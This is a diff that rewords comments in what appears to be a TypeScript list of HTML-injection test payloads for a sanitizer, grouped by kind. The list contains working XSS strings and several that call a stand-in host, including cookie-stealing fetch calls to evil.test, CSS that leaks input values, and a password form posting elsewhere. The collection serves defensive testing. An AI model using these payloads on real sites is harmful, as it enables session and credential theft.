@@ -1,6 +1,6 @@
-/** Markup that would run something, ask elsewhere, take the form away or change the page (SEC-31), by kind. */
+/** Markup that would run code, load external resources, take over the form or change the page (SEC-31), by kind. */
 export const attacks: Readonly<Record<string, ReadonlyArray<string>>> = {
-  /** Code as such. */
+  /** Plain script code. */
   scripts: [
     "<script>alert(1)</script>",
     "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
@@ -23,7 +23,7 @@ export const attacks: Readonly<Record<string, ReadonlyArray<string>>> = {
     '<?xml version="1.0"?><script>alert(1)</script>',
     "<![CDATA[<script>alert(1)</script>]]>"
   ],
-  /** Elements that run something by themselves. */
+  /** Elements that run code without interaction. */
   handlers: [
     "<img src=x onerror=alert(1)>",
     '<img src=x onerror="alert(1)"',
@@ -67,7 +67,7 @@ export const attacks: Readonly<Record<string, ReadonlyArray<string>>> = {
     "<xss onclick=alert(1) contenteditable tabindex=1>x</xss>",
     "<table background=x onerror=alert(1)><td onclick=alert(1)>x"
   ],
-  /** Addresses that are code or data. */
+  /** URLs that contain code or data. */
   addresses: [
     '<a href="javascript:alert(1)">x</a>',
     '<a href="JaVaScRiPt:alert(1)">x</a>',
@@ -112,7 +112,7 @@ export const attacks: Readonly<Record<string, ReadonlyArray<string>>> = {
     '<del cite="javascript:alert(1)">x</del>',
     '<a href="https://acme.test"onclick=alert(1)>x</a>'
   ],
-  /** SVG and MathML, and what changes its meaning when it is read again. */
+  /** SVG and MathML, and markup that changes its meaning when parsed again. */
   foreign: [
     "<svg onload=alert(1)>",
     "<svg/onload=alert(1)>",
@@ -157,7 +157,7 @@ export const attacks: Readonly<Record<string, ReadonlyArray<string>>> = {
     '<p class="x&quot; onclick=&quot;alert(1)">x</p>',
     '<p title="` onclick=alert(1) `">x</p>'
   ],
-  /** Looks that ask elsewhere, or lie over the form. */
+  /** Styles that load external resources or cover the form. */
   styles: [
     '<style>@import "https://evil.test/x.css"</style>',
     "<style>input[value^=a]{background:url(https://evil.test/a)}</style>",
@@ -178,7 +178,7 @@ export const attacks: Readonly<Record<string, ReadonlyArray<string>>> = {
     "<style></style/><img src=x onerror=alert(1)></style>",
     '<style media="<script>alert(1)</script>">x</style>'
   ],
-  /** Forms that take a password elsewhere, and names that ours are known by. */
+  /** Forms that send a password elsewhere, and names that clash with ours. */
   forms: [
     '<form action="https://evil.test"><input name=password type=password><button>Log in</button></form>',
     '<form id=x action="https://evil.test">',
@@ -201,7 +201,7 @@ export const attacks: Readonly<Record<string, ReadonlyArray<string>>> = {
     "<div contenteditable slot=x is=x part=x>x</div>",
     '<div data-show="x" data-sent=1 accesskey=l draggable=true>x</div>'
   ],
-  /** What is of the whole document, or embeds another. */
+  /** Elements that belong to the whole document or embed another one. */
   documents: [
     '<base href="https://evil.test/">',
     "<base target=_blank>",
@@ -229,7 +229,7 @@ export const attacks: Readonly<Record<string, ReadonlyArray<string>>> = {
     "<canvas id=x></canvas>",
     '<map name=x><area href="javascript:alert(1)" shape=default></map><img usemap=#x>'
   ],
-  /** Out of the place where it stands. */
+  /** Markup that breaks out of its position. */
   breaking: [
     "</header></main><main><h1>Log in</h1>",
     "</div></div></div></body></html><p>x",
@@ -252,7 +252,10 @@ export const attacks: Readonly<Record<string, ReadonlyArray<string>>> = {
     "<template><div></template></div>",
     "<slot name=x>x"
   ],
-  /** As they were found in other services: stored markup of a login page (CVE-2026-5468), addresses of code (CVE-2026-29192), what an address says on a page (CVE-2026-42849). */
+  /**
+   * As found in other services: stored markup on a login page (CVE-2026-5468), URLs with code (CVE-2026-29192), URL
+   * text reflected in a page (CVE-2026-42849).
+   */
   cves: [
     '<div><script>fetch("https://evil.test/?c="+document.cookie)</script></div>',
     "<a href=\"javascript:fetch('https://evil.test/?c='+document.cookie)\">Terms</a>",
